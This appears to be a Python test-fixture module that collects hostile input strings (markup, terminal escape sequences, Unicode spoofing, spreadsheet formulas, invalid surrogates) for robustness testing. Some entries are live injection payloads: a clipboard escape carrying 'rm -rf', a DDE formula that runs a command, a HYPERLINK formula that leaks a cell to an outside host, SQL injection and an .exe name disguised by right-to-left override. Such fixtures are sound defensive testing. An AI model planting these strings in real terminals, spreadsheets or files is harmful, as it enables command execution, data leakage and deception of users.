"""Hostile strings: what a transcript, a file name or a code name may hold, and must not get through unseen.

Each stands for one way in which text has taken control of a terminal, a markup parser, a spreadsheet or an offset.
"""

from __future__ import annotations

__all__ = ["CONTROL_SEQUENCES", "FORMULAS", "MARKUP", "NAUGHTY", "SURROGATES", "WIDTH"]

MARKUP = [
    "[/b]",
    "[/]",
    "[b]bold",
    "[red]",
    "[@click=app.quit]q[/]",
    "[INTERVIEWER]: hello [unclear]",
    "[link=https://example.org]here[/link]",
    "\\[escaped\\]",
    "<script>alert(1)</script>",
    "%s %(x)s {0} {x!r}",
    'x"];drop table code;--',
]
"""Text that a markup parser would eat, obey or stumble over."""

CONTROL_SEQUENCES = [
    "\x1b[2J",
    "\x1b]0;title",
    "\x1b]52;c;cm0gLXJm\x07",
    "\x1b]8;;https://example.org\x1b\\link\x1b]8;;\x1b\\",
    "\x1bP+q544e\x1b\\",
    "\x9b31m",
    "\x9d0;title\x9c",
    "bell\x07 back\x08space",
    "a\x00secret",
    "del\x7fete",
    "over\rwritten",
]
"""Text that a terminal would obey."""

WIDTH = [
    "user\u202egnp.exe",
    "\u2066isolate\u2069",
    "\u200fright to left",
    "con\u200bsensus",
    "soft\u00adhyphen",
    "\ufeffmark in front",
    "\U000e0041\U000e0042 tag characters",
    "a\x0cb\u2028c\x85d",
    "a\u2029b\x1ec",
    "👩\u200d👩\u200d👧\u200d👦 family",
    "👍🏽 skin tone",
    "e\u0301\u0323\u0302 combining marks",
    "\u0301 a mark with no letter",
    "한\u1100\u1161 jamo",
    "县\u3000省\u00a0市",
    "\ufff9ruby\ufffa\ufffb",
    "ﷺ",
    "x" * 100_000,
    "县" * 50_000,
    "word " * 20_000,
]
"""Text whose length, width or order on the screen misleads."""

FORMULAS = [
    '=HYPERLINK("http://e/?"&A1)',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
]
"""Text that a spreadsheet would compute."""

SURROGATES = ["\ud800", "half \udc80 character", "\udfff\ud800"]
"""Text that cannot be written as UTF-8."""

NAUGHTY = ["", " ", "\n", "\t", *MARKUP, *CONTROL_SEQUENCES, *WIDTH, *FORMULAS, *SURROGATES]
"""All of them."""
